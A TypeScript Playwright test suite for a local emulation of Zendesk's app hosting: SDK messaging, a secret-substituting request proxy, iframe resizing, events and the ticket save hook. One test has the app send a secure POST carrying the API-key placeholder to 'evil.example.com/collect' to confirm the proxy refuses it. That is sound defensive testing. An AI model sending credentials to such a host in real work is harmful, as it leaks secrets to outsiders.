/**
 * The local workspace hosts the built app the way Zendesk does: cross-origin iframe, the real ZAF
 * SDK talking to the host over postMessage, the emulated request proxy with Zendesk's secure-setting
 * rules, and the ticket save hook. Some tests speak the SDK's wire protocol from inside the app's
 * frame (the SDK client is not reachable from outside the bundle, and src/ has no test hooks).
 */
import type { Frame } from 'playwright-core';
import { appFrame, appIframeSelector, ticketView } from './support/browser';
import { browserSuite } from './support/suite';

jest.setTimeout(60_000);

const suite = browserSuite({ viewport: { width: 1440, height: 900 } });

const PLACEHOLDER = 'Klaviyo-API-Key {{setting.klaviyo_api_key}}';

interface WireAnswer {
  outcome: 'done' | 'fail';
  args: Array<{ status?: number; responseText?: string; statusText?: string }>;
}

/** Sends `client.request(options)` as the SDK does (`request:<n>`) and waits for the host's answer. */
function requestFromApp(frame: Frame, hostOrigin: string, options: Record<string, unknown>) {
  return frame.evaluate(
    ({ hostOrigin, options }) =>
      new Promise<WireAnswer>((resolve) => {
        const key = `request:${9000 + Math.floor(Math.random() * 1000)}`;
        const guid = new URLSearchParams(location.search).get('app_guid');
        window.addEventListener('message', (event) => {
          if (event.origin !== hostOrigin || event.source !== window.parent) return;
          const data = typeof event.data === 'string' ? JSON.parse(event.data) : event.data;
          if (data?.key === `zaf.${key}.done` || data?.key === `zaf.${key}.fail`) {
            resolve({
              outcome: data.key.endsWith('.done') ? 'done' : 'fail',
              args: data.message.responseArgs,
            });
          }
        });
        window.parent.postMessage(
          JSON.stringify({ key, message: options, appGuid: guid, instanceGuid: guid }),
          hostOrigin,
        );
      }),
    { hostOrigin, options },
  );
}

/** Tells the host the app listens to `event` and records what the host sends for it. */
async function listenInApp(frame: Frame, hostOrigin: string, event: string) {
  await frame.evaluate(
    ({ hostOrigin, event }) => {
      const w = window as unknown as { __heard?: Record<string, unknown[]> };
      w.__heard ??= {};
      w.__heard[event] = [];
      window.addEventListener('message', (e) => {
        if (e.origin !== hostOrigin) return;
        const data = typeof e.data === 'string' ? JSON.parse(e.data) : e.data;
        if (data?.key === `zaf.${event}`) w.__heard![event]!.push(data.message ?? null);
      });
      const guid = new URLSearchParams(location.search).get('app_guid');
      window.parent.postMessage(
        JSON.stringify({
          key: `iframe.on:${event}`,
          message: { subscriberCount: 1 },
          appGuid: guid,
          instanceGuid: guid,
        }),
        hostOrigin,
      );
    },
    { hostOrigin, event },
  );
}

async function heard(frame: Frame, event: string): Promise<unknown[]> {
  return frame.evaluate(
    (event) =>
      (window as unknown as { __heard?: Record<string, unknown[]> }).__heard?.[event] ?? [],
    event,
  );
}

/** Retries `check` until it passes (or the time is up, then its last failure is thrown). */
async function eventually(check: () => Promise<void>, timeoutMs = 10_000): Promise<void> {
  const end = Date.now() + timeoutMs;
  for (;;) {
    try {
      await check();
      return;
    } catch (error) {
      if (Date.now() > end) throw error;
      await new Promise((r) => setTimeout(r, 100));
    }
  }
}

async function openTicket(id: number): Promise<Frame> {
  await suite.page.goto(suite.workspace.ticketUrl(id));
  const frame = await appFrame(suite.page, { ticketId: id });
  await frame.waitForSelector('[data-location="ticket_sidebar"]', { timeout: 20_000 });
  return frame;
}

describe('the local workspace hosts the app like Zendesk', () => {
  it('loads the app for ticket 101 in a cross-origin sidebar iframe through the real ZAF SDK', async () => {
    await suite.page.goto(suite.workspace.ticketUrl(101));
    await suite.page
      .getByTestId('ticket-subject')
      .filter({ hasText: 'Where is my order #4821?' })
      .waitFor();
    await expect(suite.page.getByTestId('requester-email').textContent()).resolves.toBe(
      'maria.garcia@example.com',
    );
    const iframe = suite.page.locator(appIframeSelector({ ticketId: 101 }));
    const src = new URL((await iframe.getAttribute('src'))!);
    expect(src.origin).toBe(suite.workspace.appOrigin);
    expect(src.origin).not.toBe(suite.workspace.hostOrigin);
    expect(src.searchParams.get('origin')).toBe(suite.workspace.hostOrigin);
    expect(src.searchParams.get('app_guid')).toMatch(/^[0-9a-f-]{36}$/);

    const frame = await appFrame(suite.page, { ticketId: 101 });
    // The root only renders after registration, so its location comes from the host's context.
    const root = await frame.waitForSelector('[data-location]', { timeout: 20_000 });
    await expect(root.getAttribute('data-location')).resolves.toBe('ticket_sidebar');
  });

  it('substitutes the secret only into secure requests: without secure: true Klaviyo sees the literal placeholder and answers 401', async () => {
    const frame = await openTicket(101);
    await suite.workspace.control.delete('/klaviyo/requests');
    const headers = { Authorization: PLACEHOLDER, revision: '2026-07-15' };

    const plain = await requestFromApp(frame, suite.workspace.hostOrigin, {
      url: 'https://a.klaviyo.com/api/accounts',
      type: 'GET',
      headers,
      httpCompleteResponse: true,
    });
    expect(plain.outcome).toBe('fail');
    expect(plain.args[0]?.status).toBe(401);

    const secure = await requestFromApp(frame, suite.workspace.hostOrigin, {
      url: 'https://a.klaviyo.com/api/accounts',
      type: 'GET',
      headers,
      secure: true,
      httpCompleteResponse: true,
    });
    expect(secure.outcome).toBe('done');
    expect(secure.args[0]?.status).toBe(200);

    const seen = (await suite.workspace.control.klaviyoRequests()).filter(
      (r) => r.path === '/api/accounts',
    );
    expect(seen.map((r) => r.headers.authorization)).toEqual([
      PLACEHOLDER,
      // The substituted key, redacted by the control API.
      'Klaviyo-API-Key [redacted]',
    ]);
  });

  it('refuses a secure request to a host outside domainWhitelist with 403 before it leaves the proxy', async () => {
    const frame = await openTicket(102);
    const answer = await requestFromApp(frame, suite.workspace.hostOrigin, {
      url: 'https://evil.example.com/collect',
      type: 'POST',
      headers: { Authorization: PLACEHOLDER },
      data: '{}',
      secure: true,
    });
    expect(answer.outcome).toBe('fail');
    expect(answer.args[0]?.status).toBe(403);
    expect(answer.args[0]?.responseText).toContain('domainWhitelist');
    const log = await suite.workspace.control.proxyRequests();
    expect(log.filter((r) => r.url.includes('evil.example.com')).map((r) => r.target)).toEqual([
      'refused',
    ]);
  });

  it('passes on Klaviyo’s 400 when a call has no revision header', async () => {
    const frame = await openTicket(102);
    const answer = await requestFromApp(frame, suite.workspace.hostOrigin, {
      url: 'https://a.klaviyo.com/api/accounts',
      type: 'GET',
      headers: { Authorization: PLACEHOLDER },
      secure: true,
      httpCompleteResponse: true,
    });
    expect(answer.outcome).toBe('fail');
    expect(answer.args[0]?.status).toBe(400);
    expect(JSON.parse(answer.args[0]?.responseText ?? '{}').errors[0].detail).toMatch(/revision/i);
  });

  it('shows Zendesk’s “ticket not found” page for an unknown ticket id, with no app loaded', async () => {
    await suite.page.goto(suite.workspace.ticketUrl(999));
    const missing = suite.page.getByTestId('not-found');
    await missing.waitFor();
    await expect(missing.textContent()).resolves.toContain('Ticket not found');
    await expect(missing.textContent()).resolves.toContain('#999');
    expect(await suite.page.locator(appIframeSelector()).count()).toBe(0);
  });

  it('resizes the app’s iframe when the app invokes resize', async () => {
    const frame = await openTicket(102);
    // Let the sidebar render its data first: its own auto-resize would otherwise race this one.
    await frame.getByTestId('profile-name').waitFor({ timeout: 20_000 });
    await frame.waitForTimeout(300);
    const height = await frame.evaluate(
      (hostOrigin) =>
        new Promise<number>((resolve, reject) => {
          const id = 90_000 + Math.floor(Math.random() * 1000);
          const guid = new URLSearchParams(location.search).get('app_guid');
          window.addEventListener('message', (event) => {
            if (event.origin !== hostOrigin) return;
            const data = typeof event.data === 'string' ? JSON.parse(event.data) : event.data;
            if (data?.id !== id) return;
            // The iframe's viewport is its height: wait until it shows the new size.
            const started = performance.now();
            const check = () => {
              if (window.innerHeight === 432) resolve(window.innerHeight);
              else if (performance.now() - started > 3000)
                reject(new Error(`${window.innerHeight}`));
              else requestAnimationFrame(check);
            };
            check();
          });
          window.parent.postMessage(
            JSON.stringify({
              id,
              request: 'invoke',
              params: { resize: [{ width: '100%', height: '432px' }] },
              appGuid: guid,
              instanceGuid: guid,
            }),
            hostOrigin,
          );
        }),
      suite.workspace.hostOrigin,
    );
    expect(height).toBe(432);
  });

  it('keeps one app instance per ticket and sends app.deactivated / app.activated when the agent switches tabs', async () => {
    const frame = await openTicket(101);
    await listenInApp(frame, suite.workspace.hostOrigin, 'app.activated');
    await listenInApp(frame, suite.workspace.hostOrigin, 'app.deactivated');
    const guid = await suite.page
      .locator(appIframeSelector({ ticketId: 101 }))
      .getAttribute('data-guid');

    await suite.page.getByTestId('nav-ticket-102').click();
    await appFrame(suite.page, { ticketId: 102 });
    await expect(
      suite.page.locator(appIframeSelector({ ticketId: 101 })).isVisible(),
    ).resolves.toBe(false);
    await suite.page.getByTestId('nav-ticket-101').click();

    await eventually(async () =>
      expect(await heard(frame, 'app.activated')).toEqual([{ firstLoad: false }]),
    );
    expect(await heard(frame, 'app.deactivated')).toHaveLength(1);
    await expect(
      suite.page.locator(appIframeSelector({ ticketId: 101 })).getAttribute('data-guid'),
    ).resolves.toBe(guid);
  });

  it('tells the app when the agent changes the requester', async () => {
    const frame = await openTicket(104);
    await listenInApp(frame, suite.workspace.hostOrigin, 'ticket.requester.email.changed');
    await listenInApp(frame, suite.workspace.hostOrigin, 'ticket.requester.id.changed');
    await suite.page
      .getByTestId('change-requester')
      .selectOption({ label: 'Sven Lindqvist <sven.lindqvist@example.se>' });
    await eventually(async () =>
      expect(await heard(frame, 'ticket.requester.email.changed')).toEqual([
        'sven.lindqvist@example.se',
      ]),
    );
    expect(await heard(frame, 'ticket.requester.id.changed')).toEqual([1102]);
    await expect(suite.page.getByTestId('requester-email').textContent()).resolves.toBe(
      'sven.lindqvist@example.se',
    );
  });

  describe('the ticket.save hook', () => {
    /**
     * Installed in every frame before the page's own scripts, so it sees messages before the SDK:
     * while `window.__saveReply` is set, it answers the host's `ticket.save` hook itself (as the
     * SDK would for an app handler) and hides the hook from the SDK.
     */
    function interceptSaveHook({ hostOrigin }: { hostOrigin: string }) {
      const w = window as unknown as {
        __saveAsked: number;
        __saveReply?: { error?: string } | 'ok';
      };
      w.__saveAsked = 0;
      window.addEventListener('message', (event) => {
        if (event.origin !== hostOrigin || w.__saveReply === undefined) return;
        let data = event.data;
        if (typeof data === 'string') {
          try {
            data = JSON.parse(data);
          } catch {
            return;
          }
        }
        if (data?.key !== 'zaf.ticket.save' || !data.needsReply) return;
        event.stopImmediatePropagation();
        w.__saveAsked += 1;
        const guid = new URLSearchParams(location.search).get('app_guid');
        const answer = w.__saveReply;
        // The SDK posts hook replies as objects, not JSON strings.
        window.parent.postMessage(
          answer === 'ok'
            ? { key: 'iframe.reply:ticket.save', appGuid: guid }
            : { key: 'iframe.reply:ticket.save', appGuid: guid, error: { msg: answer.error } },
          hostOrigin,
        );
      });
    }

    beforeEach(async () => {
      await suite.page.addInitScript(interceptSaveHook, { hostOrigin: suite.workspace.hostOrigin });
    });

    /** Makes the app answer the hook with `reply`, and tells the host the app listens to it. */
    async function fakeSaveHook(frame: Frame, reply: { error?: string } | 'ok') {
      await frame.evaluate(
        ({ hostOrigin, reply }) => {
          (window as unknown as { __saveReply: unknown }).__saveReply = reply;
          const guid = new URLSearchParams(location.search).get('app_guid');
          window.parent.postMessage(
            JSON.stringify({
              key: 'iframe.on:ticket.save',
              message: { subscriberCount: 1 },
              appGuid: guid,
              instanceGuid: guid,
            }),
            hostOrigin,
          );
        },
        { hostOrigin: suite.workspace.hostOrigin, reply },
      );
    }

    it('blocks the save with the app’s message and keeps the reply text when the app refuses', async () => {
      const frame = await openTicket(101);
      const before = (await suite.workspace.control.ticket(101)).comments.length;
      await fakeSaveHook(frame, { error: 'Klaviyo refused the SMS: the number is unsubscribed.' });

      await ticketView(suite.page, 101).getByTestId('editor').fill('Your parcel left the depot.');
      await ticketView(suite.page, 101).getByTestId('submit').click();

      await expect(
        ticketView(suite.page, 101).getByTestId('save-error-message').textContent(),
      ).resolves.toBe('Klaviyo refused the SMS: the number is unsubscribed.');
      await expect(ticketView(suite.page, 101).getByTestId('editor').inputValue()).resolves.toBe(
        'Your parcel left the depot.',
      );
      expect((await suite.workspace.control.ticket(101)).comments).toHaveLength(before);
      expect(
        await frame.evaluate(() => (window as unknown as { __saveAsked: number }).__saveAsked),
      ).toBe(1);
    });

    it('saves the reply as a public comment once the app agrees', async () => {
      const frame = await openTicket(101);
      await fakeSaveHook(frame, { error: 'Not yet' });
      await ticketView(suite.page, 101).getByTestId('editor').fill('Your parcel left the depot.');
      await ticketView(suite.page, 101).getByTestId('submit').click();
      await ticketView(suite.page, 101).getByTestId('save-error').waitFor();

      await fakeSaveHook(frame, 'ok');
      await ticketView(suite.page, 101).getByTestId('submit').click();

      await ticketView(suite.page, 101)
        .getByTestId('comment')
        .filter({ hasText: 'Your parcel left the depot.' })
        .waitFor({ timeout: 10_000 });
      await expect(ticketView(suite.page, 101).getByTestId('editor').inputValue()).resolves.toBe(
        '',
      );
      await expect(ticketView(suite.page, 101).getByTestId('save-error').isVisible()).resolves.toBe(
        false,
      );
      const { comments } = await suite.workspace.control.ticket(101);
      expect(comments.at(-1)).toMatchObject({
        body: 'Your parcel left the depot.',
        public: true,
        author_id: 1,
      });
    });
  });
});
